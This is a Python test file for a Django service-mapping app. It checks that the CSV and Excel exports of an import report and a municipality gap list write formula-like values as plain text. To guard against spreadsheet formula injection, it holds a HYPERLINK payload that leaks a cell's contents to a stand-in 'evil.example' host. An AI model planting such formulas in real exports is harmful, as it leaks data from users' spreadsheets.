"""The import report and the gap list, opened in a spreadsheet program, show what they hold
as text: a file name, value or name that looks like a formula never runs. (The action plan's
owners and descriptions: tests/mapping/test_exports.py.)"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from services.importers.base import Note, Report
from services.models import ImportRun, Municipality
from tests.mapping.dashboard_fixtures import ETELA_SAVO

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'


def test_the_import_report_csv_writes_formulas_as_text(staff_client: Client) -> None:
    report = Report(
        kind=ImportRun.Kind.HSDS,
        rejected=[Note(where=FORMULA, message=f"{FORMULA}.zip is not a readable zip file.")],
        rejected_total=1,
        warnings=[Note(where="row 2", message="@SUM(A1:A9)")],
        warnings_total=1,
    )
    run = ImportRun.objects.create(
        kind=ImportRun.Kind.HSDS,
        file_name=f"{FORMULA}.zip",
        status=ImportRun.Status.FAILED,
        report=report.to_json(),
    )

    response = staff_client.get(reverse("services:import_report_csv", args=[run.pk]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["rejected", "'" + FORMULA, f"'{FORMULA}.zip is not a readable zip file."]
    assert rows[2] == ["warning", "row 2", "'@SUM(A1:A9)"]


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_the_gap_list_writes_names_that_look_like_formulas_as_text(
    staff_client: Client,
    small_world: dict,
    format_: str,
) -> None:
    Municipality.objects.filter(county_id=ETELA_SAVO).update(
        name_fi=FORMULA, name_sv=FORMULA, name_en=FORMULA
    )
    url = reverse("mapping:gap_export", args=[format_]) + f"?county={ETELA_SAVO}"
    content = staff_client.get(url).content
    if format_ == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        names = [row[3] for row in rows[1:] if FORMULA in row[3]]
        assert names and all(name.startswith("'=") for name in names)
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [row[3] for row in sheet.iter_rows(min_row=2) if FORMULA in str(row[3].value)]
        assert cells and all(cell.data_type == "s" for cell in cells)
